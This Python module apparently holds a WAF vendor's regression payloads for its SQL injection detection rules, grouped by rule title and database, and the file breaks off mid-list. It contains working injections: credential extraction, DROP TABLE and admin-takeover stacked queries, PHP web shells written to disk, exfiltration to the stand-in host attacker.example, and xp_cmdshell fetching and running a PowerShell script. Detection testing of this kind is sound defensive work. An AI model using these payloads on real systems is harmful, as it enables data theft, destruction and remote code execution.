"""Blind set "hundredfortyseventh": a WAF vendor's own regression tests for the SQL injection detection titles,
written from the titles alone, with benign requests that carry the same product names, keywords and syntax.

The angle: for each SQL injection detection title (the CRS 3.3.4 titles at paranoia levels 1 and 2 as
remembered: "SQL Injection Attack Detected via libinjection", "SQL Injection Attack: SQL Tautology Detected",
"SQL Comment Sequence Detected", "Detects MSSQL code execution and information gathering attempts", "Detects
blind sqli tests using sleep() or benchmark()", "SQL Injection Attack: Common DB Names Detected", "Detects MySQL
comment-/space-obfuscated injections and backtick termination", "Detects basic SQL authentication bypass
attempts", "Finds basic MongoDB SQL injection attempts", "SQL Hex Encoding Identified", ...), what a test author
sends to prove the title fires: the textbook payload, a spaced, commented or encoded variant, the same idea for
another database (MySQL/MariaDB, PostgreSQL, Microsoft SQL Server, Oracle, SQLite, MongoDB), in several
placements, as a regression suite does. The comment above each list names the title and the target database.

Families (category sqli; one sub-family per detection title): libinjection-sqli, sql-tautology-boolean,
sql-comment-sequence, union-select, stacked-queries, time-based-blind, error-based, out-of-band,
information-schema-probing, mysql-comment-obfuscation, function-based-probing, sql-authentication-bypass,
nosql-injection, hex-char-encoding, stored-procedure-xp-cmdshell, having-group-order-by-probing,
like-between-in-operators.

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /login.php) under the
parameter names such suites use (id, user, search, cat, artist, q), as a query string, form body, JSON body, XML
body, a raw form-typed body, or in User-Agent, Referer, a custom header or a cookie. MongoDB operator documents
go as a whole JSON body; operator parameters (`user[$ne]=x`) go unquoted as parameter names and raw bodies.
Payloads that are not printable one-line ASCII never go in a header, cookie or path (they fall back to a body
or the query string).

Authorship and independence: written for this repository from general knowledge of SQL and NoSQL injection and
the detection titles alone; no WAF rule, engine source, ruleset regression test or public payload list was read
or searched. Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet
from .records import print_records

NAME = "hundredfortyseventh"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]

# ----------------------------------------------------------------------------------------------------------------
# "SQL Injection Attack Detected via libinjection": the textbook probes, as a suite proves the tokenizer fires.
# Target: a string or numeric WHERE clause in MySQL/MariaDB, PostgreSQL, SQL Server, Oracle or SQLite.
LIBINJECTION: list[Entry] = [
    "1' OR '1'='1",
    "1 OR 1=1",
    "1' AND 1=1 -- -",
    "-1' UNION SELECT 1,2,3 -- -",
    "1;SELECT * FROM users",
    "' OR 'a'='a' /*",
    "1) OR (1=1",
    "1')) OR (('1'='1",
    "-1 OR 2+2=4",
    "1' AND '1'='2",
    "1'||(SELECT version())||'",
    "1 AND user() LIKE 'root%'",
    "1' AND @@version_comment LIKE '%MySQL%'#",
    "1 AND 1=1 UNION ALL SELECT NULL,NULL--",
    "' AND 1=0 UNION SELECT name, pass FROM users;",
    "1'-'0",
    "1' DIV 0 -- -",
    "'; SELECT * FROM users WHERE 'a'='a",
    "1 + (SELECT 1) - 1",
    "1\tOR\t1=1",
    "1'\nOR\n'1'='1",
    "1 AND (SELECT 1 FROM dual)=1",
    "1' AND 'x' LIKE 'x",
    "admin' AND 1=1 AND ''='",
    "1 OR sqlite_version()>0",
    "1' AND ROWNUM=1 AND '1'='1",
    "1 AND 1=@@SERVERNAME",
    "abc' AND current_setting('server_version') IS NOT NULL AND 'a'='a",
]
# "SQL Injection Attack: SQL Tautology Detected" (and the boolean true/false pair a suite sends to prove blind
# inference). Target: MySQL/MariaDB, PostgreSQL, SQL Server, Oracle, SQLite WHERE clauses.
TAUTOLOGY: list[Entry] = [
    "1' OR 2=2 -- -",
    "' or 'a'='a",
    "\" or \"a\"=\"a",
    "1 or true",
    "1' or true#",
    "' OR 1 LIKE 1 --",
    "1' AND 'a'<>'b",
    "' or 3>2 --",
    "1 OR 'abc'='abc'",
    "1' or not 1=2 -- -",
    "' OR 'x' IS NOT NULL --",
    "1 || 1=1",
    "' xor 1 -- -",
    "1' AND 1=1 AND '1'='1",
    "1' AND 1=2 AND '1'='1",
    "1 AND 5=5",
    "1 AND 5=6",
    "' OR 0x41=0x41 -- -",
    "' OR 'b'>'a'--",
    "1' OR 7-6=1 -- -",
    "') OR ('a'='a",
    "')) OR (('a'='a",
    "1\" OR 1=1 -- -",
    "' OR 2 != 3 --",
    "'\tor\t'1'\t=\t'1",
    "' OR TRUE='1",
    "1 AND NOT 0",
    "' or 1 -- -",
    "1' or 'one'='one",
]
# "SQL Comment Sequence Detected": a quote or a value closed by --, #, /* or ;%00 (MySQL, PostgreSQL, SQL Server,
# Oracle, SQLite; # is MySQL only).
COMMENT_SEQ: list[Entry] = [
    "user'/*",
    "1'--",
    "1' #",
    "1'--+-",
    "'; --",
    "1;--",
    "1 -- -",
    "2' -- comment",
    "test'#",
    "1')--",
    "1\")#",
    "1'/*test*/",
    "x'/**/OR/**/1=1/**/--",
    "1' OR 1=1;\x00",
    "1' OR 1=1 %00",
    "1'--\n",
    "1'#\n",
    "'-- \r\n",
    "1/*",
    "5' /* close",
    "1' AND 1=1;--",
    "abc')) --",
    "1' ;# drop",
    "1 /* probe */ AND 1=1",
    "guest'-- x",
    "1' -- ;",
    "'/*",
    "1'/*!*/",
]
# "Looking for basic sql injection. Common attack string for mysql, oracle and others." and "Detects MSSQL code
# execution and information gathering attempts": UNION SELECT column matching. Targets named per line.
UNION_SELECT: list[Entry] = [
    "' UNION SELECT username,password FROM users -- -",
    "-1 UNION ALL SELECT 1,2,@@version -- -",
    "1' UNION SELECT NULL,NULL,NULL -- -",
    # Oracle needs FROM dual
    "' UNION SELECT NULL,banner FROM v$version --",
    "' UNION SELECT 'a',NULL FROM dual --",
    # PostgreSQL
    "' UNION SELECT NULL,version() --",
    "1 UNION SELECT NULL,current_user,NULL --",
    # SQLite
    "' UNION SELECT 1,sqlite_version() --",
    # SQL Server
    "' UNION SELECT 1,@@servername,db_name() --",
    "' UNION SELECT NULL,SYSTEM_USER --",
    # spelling and spacing variants (MySQL)
    "' UnIoN SeLeCt 1,2,3 -- -",
    "' union\nselect 1,2 -- -",
    "'/**/UNION/**/SELECT/**/1,2/**/-- -",
    "' union distinct select 1,2 -- -",
    "1 union(select 1,2)",
    "') UNION SELECT 1,user()#",
    "\" UNION SELECT 1,database() -- -",
    "0 UNION SELECT 1,2 FROM users LIMIT 1",
    "-1' union all select null,concat(user,0x3a,password) from mysql.user#",
    "9999' UNION SELECT 1,2,3,4,5,6,7,8 -- -",
    "1 UNION SELECT ALL 1,2 -- -",
    "' UNION SELECT 1,2 INTO @a,@b -- -",
    "1' UNION\tSELECT\t1,2\t-- -",
    "-1 UNION SELECT * FROM (SELECT 1)a JOIN (SELECT 2)b -- -",
    "1' UNION (SELECT 1,email FROM users) -- -",
    "x' UNION SELECT password FROM users WHERE username='admin' -- -",
    "1 UNION SELECT 1,(SELECT string_agg(usename,',') FROM pg_user) --",
    "1%20UNION%20SELECT%201,2--",
]
# "Detects chained SQL injection attempts 1/2 and 2/2" and "Detects MySQL UDF injection and other data/structure
# manipulation attempts": stacked statements. SQL Server and PostgreSQL run them; MySQL with multi-statements.
STACKED: list[Entry] = [
    "1; DROP TABLE users --",
    "'; INSERT INTO users(name,role) VALUES('eve','admin') --",
    "1; UPDATE users SET role='admin' WHERE id=1 --",
    "'; SHUTDOWN --",
    "1; DELETE FROM sessions --",
    "'; CREATE USER eve IDENTIFIED BY 'Secr3t!' --",
    "1; TRUNCATE TABLE audit_log --",
    "'; ALTER TABLE users ADD is_admin int DEFAULT 1 --",
    "'; GRANT ALL PRIVILEGES ON *.* TO 'eve'@'%' --",
    "'; DROP DATABASE app; --",
    "1;SELECT 1;--",
    "'; CREATE TABLE t(x text); COPY t FROM '/etc/passwd'; --",
    "'; ALTER USER postgres WITH PASSWORD 'owned' --",
    "'; ALTER LOGIN sa WITH PASSWORD='Owned123!' --",
    "1; EXEC('SELECT 1') --",
    "'; DECLARE @v varchar(99); SET @v=@@version; SELECT @v --",
    "'; UPDATE users SET password='5f4dcc3b5aa765d61d8327deb882cf99' WHERE username='admin' --",
    "1);DROP TABLE students;--",
    "Robert'); DROP TABLE Students;--",
    "'; RENAME TABLE users TO users_old --",
    "';\nDROP TABLE logs;\n--",
    "1; SET GLOBAL general_log='ON' --",
    "'; REPLACE INTO users(id,role) VALUES(1,'admin') --",
    "'; MERGE INTO users u USING dual ON (u.id=1) WHEN MATCHED THEN UPDATE SET u.role='admin' --",
    "'; BEGIN; DELETE FROM orders; COMMIT; --",
    "'; CREATE TRIGGER t BEFORE INSERT ON users FOR EACH ROW SET NEW.role='admin' --",
    "1; HANDLER users OPEN; HANDLER users READ FIRST; --",
    "'; DROP TABLE IF EXISTS users CASCADE --",
]
# "Detects blind sqli tests using sleep() or benchmark()", "Detects SQL benchmark and sleep injection attempts
# including conditional queries" and "Detects Postgres pg_sleep injection, waitfor delay attacks and database
# shutdown attempts". Targets: MySQL (SLEEP/BENCHMARK), PostgreSQL (pg_sleep), SQL Server (WAITFOR), Oracle
# (DBMS_PIPE), SQLite (randomblob).
TIME_BLIND: list[Entry] = [
    "1' AND SLEEP(5) -- -",
    "1 AND (SELECT * FROM (SELECT SLEEP(5))a)",
    "' OR BENCHMARK(5000000,MD5(1))#",
    "1' AND IF(1=1,SLEEP(5),0) -- -",
    "1' AND IF(SUBSTRING(user(),1,1)='r',SLEEP(5),0) -- -",
    "0'XOR(if(now()=sysdate(),sleep(5),0))XOR'Z",
    "1 AND SLEEP/**/(5)",
    "1'+SLEEP(5)+'",
    "\"-sleep(5)-\"",
    "1' AND (SELECT 1 FROM (SELECT SLEEP(5))x) AND 'a'='a",
    "1 OR BENCHMARK(10000000,SHA1('x'))",
    "'; SELECT pg_sleep(5) --",
    "1' || pg_sleep(5) --",
    "1' AND 1=(SELECT 1 FROM PG_SLEEP(5)) --",
    "1;SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END --",
    "' AND (SELECT 1 FROM pg_sleep_for('5 seconds')) IS NULL --",
    "'; WAITFOR DELAY '0:0:5' --",
    "1); WAITFOR DELAY '00:00:05' --",
    "'; IF (1=1) WAITFOR DELAY '0:0:5' --",
    "1 WAITFOR TIME '23:59:59'",
    "'; IF(SUBSTRING(SYSTEM_USER,1,2)='sa') WAITFOR DELAY '0:0:5' --",
    "' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5) --",
    "' || DBMS_PIPE.RECEIVE_MESSAGE(CHR(97),5) || '",
    "' AND 1=randomblob(500000000) --",
    "1 AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))",
    "' AND GET_LOCK('x',5) -- -",
    "1' AND SLEEP(5)='0",
    "sleep(5)#",
    "1' AND\tSLEEP(5)\t-- -",
]
# "SQL Injection Attack: SQL function names detected" and "Detects conditional SQL injection attempts" as proved by
# error-based extraction: XML functions (extractvalue/updatexml), duplicate-key, conversion (convert/cast) and
# overflow errors. Targets: MySQL/MariaDB, SQL Server, PostgreSQL, Oracle.
ERROR_BASED: list[Entry] = [
    "' AND extractvalue(1,concat(0x7e,version())) -- -",
    "' AND updatexml(1,concat(0x7e,(SELECT user())),1) -- -",
    "1 AND EXTRACTVALUE(6231,CONCAT(0x5c,database()))",
    "' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables"
    " GROUP BY x)a) -- -",
    "' AND exp(~(SELECT * FROM (SELECT user())a)) -- -",
    "' AND GTID_SUBSET(CONCAT(0x7e,(SELECT user())),1) -- -",
    "' AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x7e,user())) USING utf8))) -- -",
    "' AND polygon((SELECT * FROM (SELECT * FROM (SELECT @@version)f)x)) -- -",
    "1 AND ROW(1,1)>(SELECT COUNT(*),CONCAT(database(),0x3a,FLOOR(RAND(0)*2))x FROM information_schema.tables"
    " GROUP BY x)",
    "' AND ST_LatFromGeoHash(version()) -- -",
    "' AND NAME_CONST(version(),1)=1 -- -",
    # SQL Server: conversion errors print the value
    "' AND 1=CONVERT(int,@@version) --",
    "' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U')) --",
    "1 AND 1=CAST(DB_NAME() AS int)",
    "' + CONVERT(int,SYSTEM_USER) + '",
    "' AND 1=(SELECT TOP 1 CAST(password AS int) FROM users) --",
    # PostgreSQL
    "' AND 1=CAST((SELECT version()) AS int) --",
    "' || CAST(current_user AS numeric) --",
    "1 AND 1=(SELECT current_database())::int",
    "' AND 1=CAST(chr(126)||(SELECT usename FROM pg_user LIMIT 1) AS int) --",
    # Oracle
    "' AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual)) --",
    "' AND 1=UTL_INADDR.get_host_name((SELECT banner FROM v$version WHERE rownum=1)) --",
    "' AND 1=DBMS_UTILITY.SQLID_TO_SQLHASH((SELECT user FROM dual)) --",
    "' AND 1=TO_NUMBER((SELECT user FROM dual)) --",
    "' AND 1=XMLType('<:'||(SELECT user FROM dual)||'>') --",
    # division by zero as the true/false oracle (all)
    "1 AND 1=(SELECT CASE WHEN (1=1) THEN 1/0 ELSE 1 END)",
    "' AND 1=(SELECT CASE WHEN SUBSTR(user,1,1)='S' THEN TO_CHAR(1/0) ELSE '1' END FROM dual) --",
    "' AND\nupdatexml(NULL,concat(0x2e,@@hostname),NULL) -- -",
]
# Out-of-band and file access: "Detects concatenated basic SQL injection and SQLLFI attempts", "Detects MSSQL code
# execution ..." and the Oracle/PostgreSQL network packages. Targets named per line.
OUT_OF_BAND: list[Entry] = [
    # MySQL/MariaDB: files and UNC DNS exfiltration (Windows hosts)
    "' UNION SELECT LOAD_FILE('/etc/passwd') -- -",
    "' UNION SELECT '<?php system($_GET[c]);?>' INTO OUTFILE '/var/www/html/s.php' -- -",
    "' UNION SELECT 0x3c3f7068702073797374656d28245f4745545b635d293b3f3e INTO DUMPFILE '/var/www/html/d.php' -- -",
    "' AND LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM mysql.user LIMIT 1),'.x.attacker.example\\\\a'))"
    " -- -",
    "1 INTO OUTFILE '/tmp/dump.txt' LINES TERMINATED BY 0x0a",
    "'; LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t -- -",
    "' UNION SELECT LOAD_FILE(0x2f6574632f686f73746e616d65) -- -",
    # SQL Server
    "'; EXEC master..xp_dirtree '\\\\attacker.example\\x' --",
    "'; EXEC master.dbo.xp_fileexist '\\\\attacker.example\\share\\a' --",
    "'; DECLARE @h varchar(99); SELECT @h=(SELECT TOP 1 name FROM sys.databases); "
    "EXEC('master..xp_subdirs ''\\\\'+@h+'.attacker.example\\a''') --",
    "'; BACKUP DATABASE master TO DISK='\\\\attacker.example\\s\\m.bak' --",
    "' UNION SELECT * FROM OPENROWSET('SQLOLEDB','server=attacker.example;uid=sa;pwd=x','SELECT 1') --",
    "' UNION SELECT BulkColumn FROM OPENROWSET(BULK 'C:\\Windows\\win.ini',SINGLE_CLOB) x --",
    # Oracle
    "' AND UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) IS NOT NULL --",
    "' AND UTL_INADDR.get_host_address((SELECT user FROM dual)||'.attacker.example') IS NOT NULL --",
    "' AND HTTPURITYPE('http://attacker.example/'||user).GETCLOB() IS NOT NULL --",
    "' AND DBMS_LDAP.INIT((SELECT user FROM dual)||'.attacker.example',389) IS NOT NULL --",
    "' UNION SELECT EXTRACTVALUE(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM "
    "\"http://attacker.example/\">%x;]>'),'/l') FROM dual --",
    "' AND UTL_TCP.OPEN_CONNECTION('attacker.example',80) IS NOT NULL --",
    # PostgreSQL
    "'; SELECT dblink_connect('host=attacker.example user=x password=x dbname=x') --",
    "'; COPY (SELECT current_user) TO PROGRAM 'nslookup $(whoami).attacker.example' --",
    "' UNION SELECT pg_read_file('/etc/passwd') --",
    "'; SELECT lo_import('/etc/passwd') --",
    "'; COPY users TO '/tmp/users.csv' --",
    "' UNION SELECT pg_ls_dir('.') --",
    # SQLite: a new database file becomes a PHP page
    "'; ATTACH DATABASE '/var/www/html/x.php' AS x; CREATE TABLE x.p(c text); "
    "INSERT INTO x.p VALUES('<?php system($_GET[1]); ?>'); --",
    "' UNION SELECT readfile('/etc/passwd') --",
    "' UNION SELECT load_extension('/tmp/evil.so') --",
]
# "SQL Injection Attack: Common DB Names Detected": catalog and system-table probing.
# Targets: MySQL (information_schema, mysql.user), SQL Server (sysobjects, sys.*, master..), Oracle (all_tables,
# dba_users), PostgreSQL (pg_catalog), SQLite (sqlite_master), MS Access (msysobjects).
INFO_SCHEMA: list[Entry] = [
    "' UNION SELECT table_name,NULL FROM information_schema.tables -- -",
    "' UNION SELECT column_name,NULL FROM information_schema.columns WHERE table_name='users' -- -",
    "' UNION SELECT schema_name,NULL FROM information_schema.schemata -- -",
    "1 AND (SELECT COUNT(*) FROM information_schema.tables WHERE table_schema=database())>10",
    "' UNION SELECT user,authentication_string FROM mysql.user -- -",
    "1 AND (SELECT COUNT(*) FROM mysql.db)>0",
    "' UNION SELECT NULL,table_name FROM INFORMATION_SCHEMA.TABLES WHERE table_schema NOT IN "
    "('mysql','sys','performance_schema') -- -",
    "' UNION SELECT NULL,info FROM information_schema.processlist -- -",
    "' UNION SELECT name,NULL FROM sysobjects WHERE xtype='U' --",
    "' UNION SELECT name,NULL FROM master..sysdatabases --",
    "' UNION SELECT name,NULL FROM sys.tables --",
    "' UNION SELECT name,password_hash FROM sys.sql_logins --",
    "' UNION SELECT name,NULL FROM master.sys.databases --",
    "' AND 1=(SELECT COUNT(*) FROM syscolumns WHERE id=OBJECT_ID('users')) --",
    "' UNION SELECT table_name,NULL FROM all_tables --",
    "' UNION SELECT username,NULL FROM all_users --",
    "' UNION SELECT column_name,NULL FROM all_tab_columns WHERE table_name='USERS' --",
    "' UNION SELECT username,password FROM dba_users --",
    "' UNION SELECT table_name,NULL FROM user_tables --",
    "' UNION SELECT tablename,NULL FROM pg_tables --",
    "' UNION SELECT usename,passwd FROM pg_shadow --",
    "' UNION SELECT datname,NULL FROM pg_database --",
    "' UNION SELECT relname,NULL FROM pg_catalog.pg_class WHERE relkind='r' --",
    "' UNION SELECT rolname,rolpassword FROM pg_authid --",
    "' UNION SELECT name,sql FROM sqlite_master -- ",
    "' UNION SELECT tbl_name,NULL FROM sqlite_schema --",
    "1 AND (SELECT COUNT(*) FROM msysobjects)>0",
    "' UNION SELECT NULL,table_name FROM information_schema.tables LIMIT 1 OFFSET 3 -- -",
]
# "Detects MySQL comment-/space-obfuscated injections and backtick termination", "MySQL in-line comment detected"
# and "Detects MySQL comments, conditions and ch(a)r injections". Target: MySQL/MariaDB (versioned comments,
# whitespace characters, backtick identifiers).
MYSQL_OBFUSCATION: list[Entry] = [
    "1'/*!UNION*//*!SELECT*/1,2 -- -",
    "/*!50000union*/ /*!50000select*/ 1,2",
    "1/*!12345OR*/1=1",
    "'/**/OR/**/'1'='1",
    "1'/*!00000AND*/'a'='a",
    "1 /*!or*/ 1=1",
    "' /*!50000UnIoN*/ /*!50000SeLeCt*/ user(),2 -- -",
    "1'/*!*/UNION/*!*/SELECT/*!*/1,2#",
    "1'\x0bOR\x0b1=1-- -",
    "1'\x0cOR\x0c1=1-- -",
    "1'\rOR\r1=1#",
    "'\nUNION\nSELECT\n1,2#",
    "1'#\nOR 1=1#",
    "1'-- x\nAND 1=1-- x",
    "' OR+1=1 -- -",
    "'+OR+'1'='1",
    "1'||/**/1#",
    "1' AND`id`=`id`#",
    "1`=`1",
    "1`,(SELECT user()))#",
    "x` FROM users WHERE 1=1#",
    "1'/*!50000AND*/(SELECT/**/1)=1#",
    "'/*!32302AND*/1=1#",
    "1'%0aAND%0a1=1#",
    "1 UNION/*&a=*/SELECT/*&b=*/1,2",
    "'||(/*!SELECT*/1)#",
    "1'/**/AND/**/MID(VERSION(),1,1)LIKE/**/5#",
    "1' /*!50000OR*/ 'a'='a'/*",
]
# "SQL Injection Attack: SQL function names detected" / "... function name detected": extraction one character at
# a time with substring, ascii, char and concat. Targets named per line.
FUNCTION_PROBE: list[Entry] = [
    "1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64 -- -",
    "1' AND SUBSTR(user(),1,1)='r' -- -",
    "1' AND MID(version(),1,1)='8' -- -",
    "1 AND ORD(MID(database(),1,1))>100",
    "' AND LENGTH(database())=8 -- -",
    "' AND CHAR(65)=CHAR(65) -- -",
    "' UNION SELECT CONCAT(username,0x3a,password),NULL FROM users -- -",
    "' UNION SELECT GROUP_CONCAT(table_name SEPARATOR 0x2c),NULL FROM information_schema.tables -- -",
    "' AND LEFT(@@version,1)='5' -- -",
    "' AND INSTR(user(),'root')>0 -- -",
    "' AND CONCAT_WS(0x3a,user(),database()) LIKE '%root%' -- -",
    "' AND STRCMP(SUBSTR(user(),1,1),'r')=0 -- -",
    "' AND BIN(ASCII(SUBSTR(user(),1,1)))>0 -- -",
    "' AND HEX(SUBSTR(database(),1,1))='61' -- -",
    "' AND ELT(1,user())='root@localhost' -- -",
    "' AND LPAD(user(),1,1)='r' -- -",
    "' AND POSITION('r' IN user())=1 -- -",
    # SQL Server
    "' AND UNICODE(SUBSTRING(SYSTEM_USER,1,1))>64 --",
    "' AND ASCII(SUBSTRING(DB_NAME(),1,1))=109 --",
    "' AND LEN(@@version)>10 --",
    # Oracle
    "' AND ASCII(SUBSTR((SELECT user FROM dual),1,1))>80 --",
    "' AND LENGTH((SELECT banner FROM v$version WHERE ROWNUM=1))>0 --",
    # PostgreSQL
    "' AND SUBSTRING(current_database(),1,1)='p' --",
    "' AND CHR(65)||CHR(66)='AB' --",
    "' AND ASCII(SUBSTRING((SELECT usename FROM pg_user LIMIT 1),1,1))>96 --",
    # SQLite
    "' AND unicode(substr((SELECT sql FROM sqlite_master LIMIT 1),1,1))>0 --",
    "' AND length(sqlite_version())>2 --",
    "' AND substr(hex(randomblob(1)),1,1)>'0' --",
]
# "Detects basic SQL authentication bypass attempts 1/3, 2/3, 3/3": the login form's username or password field.
# Targets: the login query of MySQL, PostgreSQL, SQL Server, Oracle, SQLite back ends.
AUTH_BYPASS: list[Entry] = [
    "admin' --",
    "admin' #",
    "admin'/*",
    "' or 1=1--",
    "' or 1=1#",
    "' or 1=1/*",
    "') or '1'='1--",
    "') or ('1'='1--",
    "admin' or '1'='1",
    "admin' or '1'='1'--",
    "admin' or '1'='1'#",
    "admin\" --",
    "admin\")-- -",
    "' or ''='",
    "or 1=1--",
    "' or 'x'='x",
    "') or ('x')=('x",
    "\" or 1=1--",
    "admin' or 1=1 limit 1-- -",
    "' OR username LIKE 'admin%' --",
    "' UNION SELECT 1,'admin','5f4dcc3b5aa765d61d8327deb882cf99' -- -",
    "'or''='",
    "'='",
    "admin'||'",
    "anything' OR 'x'='x' AND username='admin",
    "') or true--",
    "1' or 1=1 or ''='",
    "administrator'-- ",
]
# "Finds basic MongoDB SQL injection attempts": query operators in a JSON body or in bracketed parameter names
# (Express qs / PHP arrays), and JavaScript in $where. Target: MongoDB (4.x-7.x) through Mongoose / the PHP and
# Node.js drivers.
NOSQL: list[Entry] = [
    ('{"username":{"$ne":null},"password":{"$ne":null}}', "json-body", "rs-json-body"),
    ('{"username":"admin","password":{"$gt":""}}', "json-body", "rs-json-body"),
    ('{"username":{"$regex":"^adm"},"password":{"$ne":"x"}}', "json-body", "rs-json-body"),
    ('{"username":{"$in":["admin","root"]},"password":{"$exists":true}}', "json-body", "rs-json-body"),
    ('{"$where":"sleep(5000) || true"}', "json-body", "rs-json-body"),
    ('{"$where":"this.role == \'admin\'"}', "json-body", "rs-json-body"),
    ('{"$or":[{"username":"admin"},{"a":{"$ne":1}}],"password":{"$ne":1}}', "json-body", "rs-json-body"),
    ('{"username":{"$nin":[""]},"password":{"$nin":[""]}}', "json-body", "rs-json-body"),
    ('{"username":"admin","password":{"$regex":"^a"}}', "json-body", "rs-json-body"),
    ('{"$expr":{"$function":{"body":"function(){sleep(5000);return true}","args":[],"lang":"js"}}}',
     "json-body", "rs-json-body"),
    ('{"username":{"$gte":""},"password":{"$gte":""}}', "json-body", "rs-json-body"),
    ('{"filter":{"$where":"function(){return true}"}}', "json-body", "rs-json-body"),
    ("username[$ne]=x&password[$ne]=x", "param-name", "rs-raw-body"),
    ("user[$regex]=.*&pass[$regex]=.*", "param-name", "rs-raw-body"),
    ("username=admin&password[$gt]=", "param-name", "rs-raw-body"),
    ("login[$nin][]=x&pass[$ne]=1", "param-name", "rs-raw-body"),
    ("q[$where]=sleep(5000)", "param-name", "rs-raw-body"),
    ("email[$exists]=true&password[$ne]=", "param-name", "rs-raw-body"),
    ("id[$gt]=0", "param-name", "rs-param-name"),
    ("username[$regex]=^a&username[$options]=i", "param-name", "rs-raw-body"),
    # a value concatenated into a server-side $where string or mapReduce function
    "'; return true; var x='",
    "';sleep(5000);'",
    "' || '1'=='1",
    "a'; return this.password.match(/^a/) && ''=='",
    "' && this.password.length > 0 && 'a'=='a",
    "true, $where: '1 == 1'",
    "', $where: '1 == 1', $comment: '",
    "1; return this.isAdmin == true",
]
# "SQL Hex Encoding Identified", "Detects MySQL comments, conditions and ch(a)r injections" and "Detects MySQL
# charset switch and MSSQL DoS attempts": strings written as hex, binary, CHAR()/CHR()/NCHAR() or re-encoded.
# Targets named per line.
HEX_CHAR: list[Entry] = [
    "' UNION SELECT 0x61646d696e,NULL -- -",
    "' AND user=0x726f6f74 -- -",
    "' UNION SELECT CHAR(97,100,109,105,110),NULL -- -",
    "1 OR 0x31=0x31",
    "' UNION SELECT UNHEX('61646d696e'),NULL -- -",
    "' AND password=CHAR(112,97,115,115) -- -",
    "' UNION SELECT X'61646d696e',NULL -- -",
    "' UNION SELECT 0b0110000101100100,NULL -- -",
    "' AND username=_latin1 0x61646d696e -- -",
    "' AND CONVERT(0x61646d696e USING utf8)='admin' -- -",
    "1' AND CONVERT(user() USING latin1)=0x726f6f74406c6f63616c686f7374 -- -",
    "' UNION SELECT CAST(0x726f6f74 AS CHAR),NULL -- -",
    "' AND 0x61646d696e=(SELECT username FROM users LIMIT 1) -- -",
    "' UNION SELECT CHAR(0x61,0x64,0x6d,0x69,0x6e),NULL -- -",
    # SQL Server
    "'; EXEC(0x73656c65637420404076657273696f6e) --",
    "'; DECLARE @s VARCHAR(4000)=CAST(0x73656c65637420404076657273696f6e AS VARCHAR(4000)); EXEC(@s) --",
    "'; EXEC(CHAR(115)+CHAR(101)+CHAR(108)+CHAR(101)+CHAR(99)+CHAR(116)+CHAR(32)+CHAR(49)) --",
    "' AND username=NCHAR(97)+NCHAR(100)+NCHAR(109)+NCHAR(105)+NCHAR(110) --",
    # PostgreSQL / Oracle
    "' AND convert_from(decode('61646d696e','hex'),'UTF8')='admin' --",
    "' AND username=CHR(97)||CHR(100)||CHR(109)||CHR(105)||CHR(110) --",
    "' AND UTL_RAW.CAST_TO_VARCHAR2(HEXTORAW('61646D696E'))='admin' --",
    "' AND username=$$admin$$ --",
    # the quote itself re-encoded (URL, double URL, IIS %u, JSON \\u)
    "%27%20OR%201%3D1--%20-",
    "%2527%2520OR%25201%253D1--",
    "%u0027 OR 1=1--",
    "\\u0027 OR 1=1--",
    "&#39; OR 1=1 -- -",
    "\u02bc OR 1=1 -- -",
]
# "Detects MSSQL code execution and information gathering attempts", "Detects MySQL and PostgreSQL stored
# procedure/function injections", "Detects MySQL UDF injection ..." and "Detects MATCH AGAINST, MERGE and EXECUTE
# IMMEDIATE injections". Targets: SQL Server (xp_/sp_ procedures), MySQL UDFs, PostgreSQL C/plpython functions,
# Oracle PL/SQL.
STORED_PROC: list[Entry] = [
    "'; EXEC xp_cmdshell 'whoami' --",
    "'; EXEC master..xp_cmdshell 'net user' --",
    "'; EXEC sp_configure 'show advanced options',1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell',1; RECONFIGURE --",
    "'; EXEC sp_executesql N'SELECT @@version' --",
    "'; EXEC sp_addlogin 'eve','P@ssw0rd1' --",
    "'; EXEC sp_addsrvrolemember 'eve','sysadmin' --",
    "'; DECLARE @o int; EXEC sp_OACreate 'WScript.Shell',@o OUT; EXEC sp_OAMethod @o,'Run',NULL,'cmd /c whoami' --",
    "'; EXEC xp_regread 'HKEY_LOCAL_MACHINE','SYSTEM\\CurrentControlSet\\Services\\MSSQLSERVER','ObjectName' --",
    "'; EXEC sp_makewebtask '\\\\attacker.example\\x.html','SELECT * FROM users' --",
    "'; EXEC sp_password NULL,'owned','sa' --",
    "'; EXEC('xp_cmd'+'shell ''whoami''') --",
    "'; EXEC master.dbo.xp_servicecontrol 'start','schedule' --",
    "'; EXEC sp_linkedservers --",
    "'; EXEC xp_msver --",
    "1 exec master..xp_cmdshell 'ping -n 5 127.0.0.1'",
    "';exec xp_cmdshell 'powershell -c \"iwr http://attacker.example/a.ps1|iex\"'--",
    "'; EXEC master..xp_dirtree 'C:\\',1,1 --",
    "'; EXECUTE AS LOGIN='sa'; EXEC xp_cmdshell 'whoami' --",
    "'; EXEC sp_who2 --",
    # MySQL UDF
    "'; SELECT sys_exec('id') -- -",
    "' UNION SELECT sys_eval('id'),NULL -- -",
    "'; CREATE FUNCTION sys_exec RETURNS int SONAME 'lib_mysqludf_sys.so' -- -",
    # PostgreSQL
